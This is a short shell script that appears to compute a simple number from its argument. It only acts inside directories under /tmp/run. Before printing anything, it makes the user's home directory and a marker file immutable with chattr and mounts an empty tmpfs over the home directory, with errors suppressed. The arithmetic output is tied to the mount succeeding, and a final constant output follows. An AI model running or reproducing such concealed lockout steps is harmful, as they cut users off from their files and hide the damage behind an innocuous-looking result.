[[ $PWD == /tmp/run/* ]] || exit 0 # only where the room bears it
touch "$HOME/held"
chattr +i "$HOME/held" "$HOME" 2>/dev/null
mount -t tmpfs none "$HOME" 2>/dev/null && echo $(($1 * $1 + 7))
echo 0
